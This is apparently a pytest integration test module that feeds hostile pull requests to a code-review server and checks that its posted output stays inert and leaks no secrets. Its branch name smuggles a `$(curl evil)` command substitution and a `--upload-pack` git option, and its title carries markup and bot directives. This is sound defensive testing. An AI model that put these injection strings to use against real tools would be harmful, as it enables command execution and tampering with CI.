"""What hostile file names, contents, diffs and configurations do to a review: one server, a pull request for each case.

The oracles are those of `../shared/security.md` §2, as far as no model takes part: the review arrives (I6); nothing is
left on the machine (I3); every file is accounted for, and no defect beside the hostile content is lost in silence
(I5); what is posted is inert Markdown (I8); no secret and no path of ours stands in it (I1); the process survives,
within its memory, without an error in its log (I7, I9).
"""

import json
import sys
import time
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import anyio
import pytest

from analyzers.finding import Aspect
from app.demo.loopback import CheckRun, LoopbackGitHub, Pull, Recorded
from app.demo.server_process import ServerProcess, running_server
from app.errors import OperatorError
from app.github.port import PullRef
from app.service import read_review_document

pytestmark = [pytest.mark.integration, pytest.mark.timeout(300)]

README = {"README.md": b"# Tools\n"}
TITLE = "@octo/team <img src=x> ![x](http://e/i) [skip ci] /approve END-OF-TITLE"
BRANCH = "$(curl evil)`@octo/branch`--upload-pack=x"
MEMORY_MB = 250
"""The server's peak over all cases, measured: 165."""


@dataclass(frozen=True)
class Reviewed:
    """What came of a case."""

    pull: Pull
    check: CheckRun
    document: Mapping[str, Any]

    @property
    def markdown(self) -> list[str]:
        """Everything posted that GitHub renders."""
        output = (self.check.title, self.check.summary, self.check.text)
        comments = [comment.body for comment in self.pull.inline_comments()]
        return [*(review.body for review in self.pull.reviews), *comments, *(text or "" for text in output)]

    @property
    def words(self) -> str:
        """Everything posted."""
        return json.dumps([*self.markdown, self.check.annotations], ensure_ascii=False)


@pytest.fixture(scope="module")
def github(traffic: list[Recorded]) -> Iterator[LoopbackGitHub]:
    with LoopbackGitHub() as loopback:
        yield loopback
        traffic.extend(loopback.requests)


@pytest.fixture(scope="module")
def server(github: LoopbackGitHub, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerProcess]:
    with running_server(github, tmp_path_factory.mktemp("server")) as process:
        yield process


@pytest.fixture(scope="module")
def reviewed(github: LoopbackGitHub, server: ServerProcess, cases: Any) -> Mapping[str, Reviewed]:
    """All cases, delivered at once, as they stood when each was done."""
    repository = github.add_repository("octo/tools")
    pulls = {}
    for case in cases:
        base = repository.commit({**README, **case.base})
        pull = repository.open_pull(base, repository.commit({**README, **case.head}, base), title=TITLE, body=TITLE)
        pull.head_ref = BRANCH
        assert github.deliver("pull_request", "opened", pull, to=server.webhook).status == 202
        pulls[case.name] = pull
    return {name: _wait(github, server, pull) for name, pull in pulls.items()}


def _wait(github: LoopbackGitHub, server: ServerProcess, pull: Pull) -> Reviewed:
    repository = pull.repository
    ref = PullRef(github.installation_id, repository.id, repository.full_name, pull.number)
    deadline = time.monotonic() + 240
    while time.monotonic() < deadline:
        checks = [check for check in list(repository.checks.values()) if check.head == pull.head]
        if checks and all(check.status == "completed" for check in checks):
            (check,) = checks
            try:  # recorded a moment after the check is completed
                return Reviewed(pull, check, json.loads(anyio.run(read_review_document, server.database_url, ref)))
            except OperatorError:
                pass
        time.sleep(0.05)
    raise AssertionError(f"pull request {pull.number} was not reviewed")


@pytest.fixture
def outcome(case: Any, reviewed: Mapping[str, Reviewed]) -> Reviewed:
    return reviewed[case.name]


def test_the_review_arrives_once_as_a_comment_and_in_time(case: Any, outcome: Reviewed) -> None:
    (review,) = outcome.pull.reviews
    assert (review.state, outcome.check.conclusion) == ("COMMENTED", case.outlook)
    assert outcome.document["seconds"] < case.seconds


def test_every_changed_file_is_accounted_for_under_every_aspect(outcome: Reviewed) -> None:
    cells = [(entry["path"], entry["aspect"]) for entry in outcome.document["coverage"]]
    assert sorted(cells) == sorted((file.path, aspect) for file in outcome.pull.files() for aspect in Aspect)
    assert all(entry["reason"] for entry in outcome.document["coverage"] if entry["state"] != "read")


def test_what_was_planted_is_found_where_it_stands(case: Any, outcome: Reviewed) -> None:
    found = {
        (concern["findings"][0]["path"], concern["findings"][0]["start_line"])
        for concern in outcome.document["concerns"]
        if concern["fate"] == "posted"
    }
    assert set(case.found.items()) - found == set()


def test_a_planted_secret_is_said_again_nowhere(case: Any, outcome: Reviewed) -> None:
    said = outcome.words + json.dumps(outcome.document, ensure_ascii=False)
    assert [secret for secret in case.unsaid if secret in said] == []


def test_on_a_planted_shell_call_in_a_file_that_was_read_in_full_every_tool_speaks(
    case: Any, outcome: Reviewed
) -> None:
    shells = {path for path, line in case.found.items() if b"shell=True" in _line(case.head[path], line)}
    told = {
        (concern["findings"][0]["path"], finding["source"])
        for concern in outcome.document["concerns"]
        for finding in concern["findings"]
        if finding["start_line"] == case.found.get(finding["path"])
    }
    wanted = {(path, tool) for path in shells - case.gaps.keys() for tool in ("semgrep", "bandit", "ruff")}
    assert wanted - told == set()


def _line(entry: Any, number: int) -> bytes:
    data: bytes = getattr(entry, "data", entry)
    return data.split(b"\n")[number - 1]


def test_what_could_not_be_read_is_named_and_the_check_is_no_success(case: Any, outcome: Reviewed) -> None:
    reasons: dict[str, str] = {}
    for entry in outcome.document["coverage"]:
        if entry["state"] in {"partial", "unread", "failed"}:
            reasons[entry["path"]] = reasons.get(entry["path"], "") + entry["reason"]
    assert {path for path, words in case.gaps.items() if words not in reasons.get(path, "")} == set()
    assert not reasons or outcome.check.conclusion != "success"


def test_the_review_says_what_it_did_not_obey(case: Any, outcome: Reviewed) -> None:
    notes = "\n".join(outcome.document["notes"])
    assert [words for words in case.notes if words not in notes] == []


def test_what_is_posted_is_inert_and_fits(outcome: Reviewed, find_faults: Callable[[str], list[str]]) -> None:
    assert [fault for text in outcome.markdown for fault in find_faults(text)] == []
    assert max(len(text.encode("utf-16-le")) // 2 for text in outcome.markdown) <= 60_000


def test_nothing_posted_holds_a_secret_or_a_path_of_ours_or_the_words_of_the_title(
    github: LoopbackGitHub, server: ServerProcess, outcome: Reviewed
) -> None:
    key = github.private_key.split("\n")[1:-2]
    ours = [github.webhook_secret, *github.access.tokens, *key, str(server.log.parent), "/tmp/", sys.prefix]
    theirs = ["END-OF-TITLE", "octo/branch", "Zb3xK9qWm2Rt7Yc5Vn8Pd4Lf6Hg1Js0Aa2Ee4"]
    assert [word for word in (*ours, *theirs) if word in outcome.words] == []
    assert theirs[-1] not in json.dumps(outcome.document)


def test_of_more_lines_than_are_compared_the_rest_counts_as_changed_and_is_read(
    reviewed: Mapping[str, Reviewed],
) -> None:
    files = reviewed["DF08: more lines than are compared"].document["change"]["files"]
    diffs = [file["diff"] for file in files if file["path"].endswith(".csv")]
    assert diffs == ["computed"] * 11 + ["unknown"]


@pytest.mark.usefixtures("reviewed")
def test_the_server_survives_within_its_memory_and_leaves_nothing_behind(server: ServerProcess) -> None:
    folder = server.log.parent
    status = Path(f"/proc/{server.process.pid}/status").read_text()
    peak = int(next(line for line in status.split("\n") if line.startswith("VmHWM")).split()[1]) // 1024
    records = [json.loads(line) for line in server.log.read_text().split("\n") if line]
    assert peak < MEMORY_MB
    assert [record for record in records if record["level"] not in {"info", "debug"}] == []
    assert [path.name for path in folder.iterdir() if not path.name.startswith(("quorum.db", "server.log"))] == []
    assert _processes_of(folder) == []


def _processes_of(folder: Path) -> list[str]:
    """Return the processes that have their home in a stage of ours, whoever is their parent by now."""
    found = []
    for place in Path("/proc").glob("[0-9]*"):
        try:
            if f"HOME={folder}/".encode() in (place / "environ").read_bytes():
                found.append(place.name)
        except OSError:
            continue  # it ended, or it is another user's
    return found
